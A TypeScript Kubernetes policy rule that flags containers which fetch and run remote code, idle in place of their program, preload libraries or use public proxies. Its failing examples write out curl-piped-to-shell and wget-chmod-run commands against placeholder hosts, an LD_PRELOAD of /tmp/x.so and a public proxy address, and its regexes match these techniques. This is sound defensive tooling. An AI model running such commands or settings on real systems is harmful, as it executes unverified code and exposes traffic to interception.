import { addressRange, isPublic } from '../../kubernetes/network/address-ranges.ts';
import { portsOf } from '../../kubernetes/pods/container-ports.ts';
import { isServing } from '../../kubernetes/pods/workloads.ts';
import { type Command, commandsOf, variablesOf, type Written } from '../../kubernetes/settings/programs.ts';
import type { Container, Problem } from '../../model.ts';
import { defineRule } from '../../model.ts';

const example = `
name: financial-service
ports: [{ name: http, containerPort: 8000 }]
command: [/app/financial-service, serve]
env: [{ name: LD_PRELOAD, value: /usr/lib/x86_64-linux-gnu/libjemalloc.so.2 }, { name: HTTPS_PROXY, value: "http://proxy.example.com:3128" }]
lifecycle: { postStart: { exec: { command: [/app/warm-up] } } }
`;

const from = 'the program of the image';

const failing = (name: string, path: string, value: unknown, message: string, where = path) => ({
  name,
  from,
  change: { [path]: value },
  problems: [{ message, path: where }],
});

export default defineRule({
  id: 'limit-container-command',
  severity: 'error',
  manual: '2.4, 4.2 (D87)',
  summary: 'Run the program of the signed image, and nothing that is fetched, preloaded or put in its place.',
  rationale:
    'A signature says what an image holds. What a container fetches when it starts, loads before its program or sends through the machine of somebody ' +
    'else was seen by nobody; and one that sleeps in place of its program is ready for nothing.',
  remediation: 'Put what is to run into the image, and take the command, hook or variable out of the file of the service or the platform.',
  scope: 'every-container',

  check(container, world) {
    return [
      ...commandsOf(container).flatMap((command) => [...fetched(command, container), ...idle(command, container)]),
      ...variablesOf(container, world).flatMap((variable) => variableProblems(variable, container)),
    ];
  },

  examples: {
    pass: [
      { name: from, container: example },
      {
        name: 'a request of a job, and a wait for somebody else',
        container: `
name: check
command: [/bin/sh, -c, "curl --fail http://ledger.erp-prod.svc/health | jq .status && sleep 5"]
`,
      },
      { name: 'a container that people enter', container: 'name: break-glass\ncommand: [sleep, "3600"]' },
    ],
    fail: [
      failing(
        'a script of somebody',
        'lifecycle.postStart.exec.command',
        ['/bin/sh', '-c', 'curl http://203.0.113.9/x | sh'],
        'The postStart hook of container "financial-service" runs what it fetches: no signature is on that.',
      ),
      failing(
        'a program of somebody',
        'command',
        ['sh', '-c', 'wget -qO /tmp/x https://example.net/x && chmod +x /tmp/x && /tmp/x'],
        'The command of container "financial-service" runs what it fetches: no signature is on that.',
      ),
      {
        ...failing('code that comes before that of the image', 'env[0].value', '/tmp/x.so', ''),
        problems: [
          {
            message: 'Variable "LD_PRELOAD" of container "financial-service" loads "/tmp/x.so" into every program before its own code.',
            path: 'env[0].value',
          },
        ],
      },
      {
        ...failing('the machine of somebody', 'env[1].value', 'http://203.0.113.10:3128', ''),
        problems: [
          {
            message:
              'Variable "HTTPS_PROXY" of container "financial-service" sends all requests through 203.0.113.10, an address of the internet.',
            path: 'env[1].value',
          },
        ],
      },
    ],
  },
});

const fetches = /\b(?:curl|wget|fetch|aria2c)\b/;
const pipedToShell = /\b(?:curl|wget|fetch)\b[^|;&]*\|\s*(?:sudo\s+)?(?:env\s+)?(?:\/\w[\w/]*\/)?(?:ba|da|z|k|a)?sh\b/;
const evaluated = /(?:\beval\b|\bsource\b|\b(?:ba|da|z)?sh\s+-\w*c\b|<)\s*["']?(?:\$\(|<\(|\(|`)\s*(?:curl|wget)\b/;
const piped = /\b(?:curl|wget|fetch)\b[^|;&]*\|\s*(?:python3?|perl|ruby|node|php)\b/;
const madeToRun = /\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+\w*x|0?[1-7]?[157][0-7]{2})\b/;

function fetched({ subject, words, path }: Command, { name }: Container): readonly Problem[] {
  const text = words.join(' ');
  const runs = pipedToShell.test(text) || evaluated.test(text) || piped.test(text) || (fetches.test(text) && madeToRun.test(text));
  return runs ? [{ message: `${subject} of container "${name}" runs what it fetches: no signature is on that.`, path }] : [];
}

const nothing =
  /^(?:(?:exec\s+)?(?:\/\w+(?:\/\w+)*\/)?(?:sleep\s+(?:infinity|inf|\d+[smhd]?)|tail\s+-[fF]\s+\/dev\/null|true|cat|:)|exit\s+0|while\s+(?:true|:)\s*;\s*do\s+sleep\s+\S+\s*;?\s*done);?$/;

/** A container with a port that sleeps in place of its program; in a job one that does nothing and succeeds. */
function idle({ subject, words, path }: Command, container: Container): readonly Problem[] {
  if (subject !== 'The command' && subject !== 'The args') return [];
  const text = words
    .join(' ')
    .replace(/^(?:\/\w+(?:\/\w+)*\/)?(?:ba|da|a)?sh\s+-\w*c\s+/, '')
    .trim();
  if (!nothing.test(text)) return [];
  const answers = isServing(container) && portsOf(container).length > 0;
  const succeeds = container.role === 'main' && !container.pod.serving && /(?:^|\/)(?:true|:)$|^exit 0$/.test(text);
  if (!answers && !succeeds) return [];
  const what = answers ? 'and nothing listens at its ports' : 'and is a success each time';
  return [{ message: `${subject} of container "${container.name}" does nothing ("${text}"), ${what}.`, path }];
}

/** Variables by which the loader of Linux, a shell or an interpreter runs code before that of the program. */
const loaders = new Set(['LD_PRELOAD', 'LD_AUDIT', 'BASH_ENV', 'PYTHONSTARTUP', 'PERL5OPT', 'RUBYOPT']);
const allocators = /^\/(?:usr\/(?:local\/)?)?lib(?:64)?\/(?:[\w.-]+\/)*lib(?:jemalloc|tcmalloc\w*|mimalloc)[\w.-]*\.so[\d.]*$/;
const proxies = /^(?:https?|all|ftp)_proxy$/i;

function variableProblems({ name, value, path }: Written, container: Container): readonly Problem[] {
  const subject = `Variable "${name}" of container "${container.name}"`;
  if (
    loaders.has(name) &&
    value.trim() !== '' &&
    !value
      .trim()
      .split(/[\s:]+/)
      .every((file) => allocators.test(file))
  ) {
    return [{ message: `${subject} loads "${value}" into every program before its own code.`, path }];
  }
  if (!proxies.test(name)) return [];
  const address = /^(?:\w+:\/\/)?(?:[^@/]*@)?(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?\/?$/.exec(value)?.[1];
  const range = address === undefined ? undefined : addressRange(`${address}/32`);
  if (range === undefined || !isPublic(range)) return [];
  return [{ message: `${subject} sends all requests through ${address}, an address of the internet.`, path }];
}
